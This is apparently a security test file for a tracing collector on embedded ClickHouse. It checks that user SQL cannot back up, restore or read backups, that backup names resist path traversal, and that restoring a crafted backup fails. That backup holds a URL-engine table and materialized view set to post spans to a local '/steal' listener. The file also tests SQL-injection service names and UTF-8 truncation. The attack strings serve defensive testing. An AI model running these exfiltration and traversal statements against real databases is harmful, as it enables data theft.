/**
 * Attacks from the review of issue 15 (backup/restore, retention TTLs, hot attribute columns,
 * attribute truncation), against the real embedded engine started as the collector starts it:
 * with `backups.allowed_path` set, so that BACKUP/RESTORE to `File(…)` works there.
 *
 * - user SQL (`/api/sql`'s path, each defence layer alone and both together) cannot run
 *   BACKUP/RESTORE, read the backup's files (`file()`), or attach a backup (`Backup` engine);
 * - backup names never reach another directory (traversal, absolute, NUL, unicode, long);
 * - retention rule service names with quotes, backslashes and backticks stay literals;
 * - attribute truncation at multi-byte boundaries stays within the limit and valid UTF-8.
 */
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openClickHouse, TRACE_ID_SUFFIX, type ClickHouseClients } from '../../exporters/clickhouse/index.js';
import { migrate } from '../../exporters/clickhouse/schema.js';
import type { ClickHouseConfig } from '../../exporters/clickhouse/config.js';
import { reconcileRetention, spanTableTtl } from '../../exporters/clickhouse/retention-ttl.js';
import { LOOPBACK_ANONYMOUS } from '../../collector/src/auth/principal.js';
import { backupDatabase, restoreDatabase } from '../../collector/src/backup/backup.js';
import { backupNameProblem } from '../../collector/src/backup/backup-name.js';
import { ReadScopes } from '../../collector/src/query/read-scope.js';
import { userSqlConfigSchema } from '../../collector/src/query/sql/config.js';
import { UserSql, type SqlLayers } from '../../collector/src/query/sql/user-sql.js';
import { retentionPolicy } from '../../collector/src/storage/retention/config.js';
import { cutToUtf8Bytes, truncateValue } from '../../collector/src/receivers/otlp/value-limit.js';

const dirs: string[] = [];
const temp = (prefix: string) => {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  dirs.push(dir);
  return dir;
};

let clients: ClickHouseClients;
let config: ClickHouseConfig;
let backupDir: string;
let scopes: ReadScopes;

beforeAll(async () => {
  backupDir = temp('ft-review15-bk-');
  config = { url: '', username: 'default', password: '', database: 'default', tracesTable: 'otel_traces', dataDir: temp('ft-review15-data-'), retentionDays: 30, concurrency: 1, backupDir };
  clients = openClickHouse(config);
  await migrate(clients.writer, config);
  await clients.writer.command({ query: `INSERT INTO otel_traces (Timestamp, TraceId, SpanId, ServiceName, SpanName) SELECT now64(9) - number, lower(hex(number % 3)), lower(hex(number)), 'svc', 'op' FROM numbers(20)` });
  await backupDatabase(clients.writer, { database: 'default', backupDir, name: 'existing' });
  scopes = new ReadScopes(clients.writer, { database: 'default', tracesTable: 'otel_traces', traceIdSuffix: TRACE_ID_SUFFIX });
}, 120_000);

afterAll(async () => {
  await clients?.close();
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

function userSql(layers: SqlLayers): UserSql {
  return new UserSql({ engine: clients, scopeFor: (p) => scopes.forRules(p.rules), config: userSqlConfigSchema.parse({ max_execution_seconds: 5 }), layers });
}

describe('user SQL cannot back up, restore, or read backups', () => {
  const attacks = (dir: string) => [
    `BACKUP DATABASE default TO File('${dir}/stolen1')`,
    `BACKUP TABLE otel_traces TO File('${dir}/stolen2')`,
    `BACKUP TABLE default.flowtrace_api_tokens TO File('${dir}/stolen3')`,
    `RESTORE TABLE default.otel_traces AS default.restored_copy FROM File('${dir}/existing')`,
    `SELECT * FROM file('${dir}/existing/flowtrace-backup.json', 'LineAsString')`,
    `SELECT * FROM file('${dir}/existing/.backup', 'LineAsString')`,
    `CREATE DATABASE peek ENGINE = Backup('default', File('${dir}/existing'))`,
    `SELECT * FROM otel_traces INTO OUTFILE '${dir}/out.tsv'`,
  ];
  // The engine layer alone (a readonly = 1 session) does not stop BACKUP: ClickHouse's readonly
  // check does not cover it, and backups.allowed_path admits backup_dir for every session. Nor the
  // scalar file() or INTO OUTFILE (test/security/sql.test.ts). Only the statement layer does.
  const ENGINE_ALONE_MISSES = /^BACKUP|INTO OUTFILE/;
  const LAYERS: Array<[string, SqlLayers]> = [
    ['both layers', { engine: true, statement: true }],
    ['the statement layer alone', { engine: false, statement: true }],
    ['the engine layer alone', { engine: true, statement: false }],
  ];
  for (const [label, layers] of LAYERS) {
    it(`refuses each with ${label}, and nothing new appears in the backup directory`, async () => {
      const before = readdirSync(backupDir).sort();
      const sql = userSql(layers);
      for (const attack of attacks(backupDir)) {
        if (!layers.statement && ENGINE_ALONE_MISSES.test(attack)) continue;
        const outcome = await sql.run(attack, LOOPBACK_ANONYMOUS).then(
          (r) => ({ ok: true as const, rows: r.rows }),
          (e: unknown) => ({ ok: false as const, message: (e as Error).message }),
        );
        expect(outcome.ok, `${label}: ${attack} → ${JSON.stringify(outcome)}`).toBe(false);
      }
      expect(readdirSync(backupDir).sort()).toEqual(before);
      const dbs = await clients.reader.query({ query: "SELECT name FROM system.databases WHERE name = 'peek'", format: 'JSONEachRow' });
      expect(await dbs.json()).toEqual([]);
    }, 60_000);
  }
});

describe('backup names never leave storage.backup_dir', () => {
  it('refuses traversal, absolute, NUL, unicode, separators, dot names and over-long names before touching the disk', async () => {
    const before = readdirSync(backupDir).length;
    const bad = ['..', '.', '../..', 'a/b', 'a\\b', '/etc', `${backupDir}/x`, 'x\0y', 'x\n', 'ä', 'ｘ', 'a\u202eb', 'x'.repeat(101), ' x', 'x ', '-x', '_x', 'a..', '..a'];
    for (const name of bad) {
      expect(backupNameProblem(name), JSON.stringify(name)).toBeDefined();
      await expect(backupDatabase(clients.writer, { database: 'default', backupDir, name })).rejects.toMatchObject({ reason: 'bad-name' });
    }
    expect(readdirSync(backupDir).length).toBe(before);
  });
});

describe('restore of a crafted backup', () => {
  it('refuses a backup whose tables reach the network (a URL table fed by a view on the spans), and nothing connects', async () => {
    let connections = 0;
    const listener = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((res) => listener.listen(0, '127.0.0.1', res));
    const port = (listener.address() as { port: number }).port;
    // One engine per process (chdb): the backup is crafted in a database of its own, dropped, then restored.
    const db = 'crafted';
    try {
      await clients.writer.command({ query: `CREATE DATABASE ${db}` });
      await clients.writer.command({ query: `CREATE TABLE ${db}.otel_traces (Timestamp DateTime64(9), TraceId String, ServiceName String) ENGINE = MergeTree ORDER BY Timestamp` });
      // Every span inserted after the restore would be posted to the attacker's server.
      await clients.writer.command({ query: `CREATE TABLE ${db}.exfil (TraceId String, ServiceName String) ENGINE = URL('http://127.0.0.1:${port}/steal', 'JSONEachRow')` });
      await clients.writer.command({ query: `CREATE MATERIALIZED VIEW ${db}.exfil_mv TO ${db}.exfil AS SELECT TraceId, ServiceName FROM ${db}.otel_traces` });
      await backupDatabase(clients.writer, { database: db, backupDir, name: 'hostile' });
      await clients.writer.command({ query: `DROP DATABASE ${db} SYNC` });

      const outcome = await restoreDatabase(clients.writer, join(backupDir, 'hostile')).then(
        () => 'restored',
        (e: unknown) => (e as Error).message,
      );
      await clients.writer.command({ query: `INSERT INTO ${db}.otel_traces VALUES (now64(9), 'aa', 'svc')` }).catch(() => undefined);
      expect(connections).toBe(0);
      expect(outcome, outcome).toMatch(/not a FlowTrace backup: it holds exfil \(engine URL\)/);
      const tables = await clients.reader.query({ query: 'SELECT name FROM system.tables WHERE database = {db:String}', query_params: { db }, format: 'JSONEachRow' });
      expect(await tables.json()).toEqual([]);
    } finally {
      await clients.writer.command({ query: `DROP DATABASE IF EXISTS ${db} SYNC` });
      listener.close();
    }
  }, 120_000);
});

describe('retention rules: service names stay string literals in the TTL', () => {
  it('reconciles names with quotes, backslashes, backticks and SQL text, and a second start changes nothing', async () => {
    const hostile = ["o'brien", 'back\\slash', 'tick`tick', "x') OR 1=1 --", "a\\'b", ' SETTINGS ttl_only_drop_parts = 1 ', 'ünïcode'];
    const policy = retentionPolicy(30, [
      { name: 'hostile', match: { service: hostile }, days: 2 },
      { name: 'one', match: { service: "it's" }, days: 5 },
    ]);
    const first = await reconcileRetention(clients.writer, 'default', 'otel_traces', 'otel_traces_trace_id_ts', policy);
    expect(first.ttl).toContain('otel_traces');
    const again = await reconcileRetention(clients.writer, 'default', 'otel_traces', 'otel_traces_trace_id_ts', policy);
    expect(again).toEqual({ ttl: [], settings: [] });
    // Each name matches exactly itself: the rule's condition evaluated over the literal names.
    const rows = await clients.reader.query({
      query: `SELECT arrayMap(s -> (s IN {names:Array(String)}), {names:Array(String)}) AS hit`,
      query_params: { names: hostile },
      format: 'JSONEachRow',
    });
    expect(((await rows.json()) as Array<{ hit: number[] }>)[0]!.hit.every((h) => h === 1)).toBe(true);
    const ttl = spanTableTtl(policy);
    const check = await clients.reader.query({
      query: `SELECT count() AS n FROM (SELECT arrayJoin({names:Array(String)}) AS ServiceName) WHERE ServiceName IN (${ttl.match(/ServiceName IN \((.*?)\)\)/)![1]})`,
      query_params: { names: hostile },
      format: 'JSONEachRow',
    });
    expect(Number(((await check.json()) as Array<{ n: string | number }>)[0]!.n)).toBe(hostile.length);
  }, 60_000);
});

describe('attribute truncation at multi-byte boundaries', () => {
  it('never exceeds the limit and never splits a character, whatever the width before the cut', () => {
    const limit = 256;
    for (const unit of ['a', 'é', '€', '😀', '\ud800', 'a😀', 'é€😀']) {
      for (let n = 60; n < 200; n++) {
        const s = unit.repeat(n);
        const cut = truncateValue(s, limit);
        const bytes = Buffer.byteLength(s);
        if (bytes <= limit) {
          expect(cut).toBeUndefined();
          continue;
        }
        expect(cut, `${JSON.stringify(unit)}×${n}`).toBeDefined();
        expect(Buffer.byteLength(cut!.value)).toBeLessThanOrEqual(limit);
        expect(cut!.originalBytes).toBe(bytes);
        expect(cut!.value.includes('\ufffd') && !unit.includes('\ud800')).toBe(false);
      }
    }
    expect(cutToUtf8Bytes('😀😀', 5)).toBe('😀');
  });
});
